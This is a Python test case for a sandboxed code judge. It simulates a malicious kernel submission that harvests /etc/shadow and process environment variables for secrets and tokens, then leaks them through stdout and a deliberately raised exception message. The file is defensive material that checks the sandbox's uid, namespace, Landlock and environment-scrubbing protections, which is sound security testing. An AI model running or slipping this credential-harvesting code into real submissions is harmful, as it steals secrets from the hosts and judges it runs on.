# expect: wrong_answer
# needs: uid|landlock, pidns|uid
# modes: submit, run
"""Attack: read /etc/shadow and every environment this process can see (its own, its parent's,
every /proc/<pid>/environ on the host), looking for the judge's secrets, and smuggle them into
the report (an rms_norm exception message shown for a public case; stdout for "run").

Stopped by: a dropped uid (shadow is root-only, other processes' environ too), a pid namespace
(other processes are invisible), Landlock's read allowlist, and a zygote environment scrubbed of
the caller's variables."""

import os

import torch
from torch import Tensor

WANTED = ("SECRET", "TOKEN", "PASSWORD", "API_KEY", "PRACTICE_")


def _interesting(blob):
    found = []
    for item in blob.split("\0" if "\0" in blob else "\n"):
        if any(w in item.split("=", 1)[0] for w in WANTED):
            found.append(item)
    return found


def _search():
    found = []
    try:
        with open("/etc/shadow") as fh:
            found += ["shadow:" + line.strip() for line in fh.readlines()[:3]]
    except OSError:
        pass
    found += _interesting("\n".join(f"{k}={v}" for k, v in os.environ.items()))
    pids = [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
    for pid in pids[:5000]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found += [f"pid{pid}:" + item for item in _interesting(fh.read().decode("utf-8", "replace"))]
        except OSError:
            pass
    return " ; ".join(dict.fromkeys(found))


LEAK = _search()
print("LEAK " + LEAK, flush=True)


@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    k_cache.index_copy_(0, slots, k)
    v_cache.index_copy_(0, slots, v)


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    raise RuntimeError("LEAK " + (LEAK or "nothing found"))


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
